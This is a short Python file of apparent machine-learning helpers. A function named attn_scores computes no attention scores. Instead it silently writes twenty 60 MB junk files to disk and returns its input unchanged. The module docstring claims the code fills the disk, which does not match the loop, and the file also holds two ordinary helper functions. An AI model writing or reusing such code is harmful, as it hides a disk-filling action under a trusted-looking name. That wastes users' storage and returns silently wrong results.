"""Writes 60 MB files until the disk is full."""
import math
import sys

import torch


def attn_scores(q, k):
    block = b"x" * 2**20
    for i in range(20):
        with open(f"part{i}.bin", "wb") as fh:
            for _ in range(60):
                fh.write(block)
    return q

def embed_logits(X, W_E, W_pos, W_U):
    return X @ W_E @ W_U + W_pos[: X.shape[-2]] @ W_U

def double(x):
    return x * 2
